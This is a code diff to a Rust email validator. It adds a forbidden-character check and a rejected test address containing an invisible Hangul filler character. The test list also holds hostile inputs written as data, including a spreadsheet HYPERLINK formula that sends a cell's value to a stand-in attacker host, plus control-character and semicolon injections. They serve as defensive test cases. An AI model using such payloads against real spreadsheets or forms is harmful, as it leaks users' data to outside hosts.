@@ -168,6 +168,7 @@ impl Email {
         let local_char = |c: char| c.is_alphanumeric() || ".!#$%&'*+/=?^_`{}~-".contains(c);
         let label_ok = |label: &str| !label.is_empty() && label.chars().all(|c| c.is_alphanumeric() || c == '-');
         let valid = text.len() <= 254
+            && kernel::text::forbidden_char(&text, false).is_none()
             && text.split_once('@').is_some_and(|(local, domain)| {
                 !local.is_empty()
                     && local.chars().all(local_char)
@@ -666,6 +667,7 @@ mod tests {
             "=hyperlink(\"http://evil.example/?\"&c2&\"@x.y\";\"обновить\")",
             "a b@example.org",
             "a\u{1}b@example.org",
+            "a\u{3164}@example.org",
             "a;b@example.org",
             "\"a\"@example.org",
             "a@b@example.org",
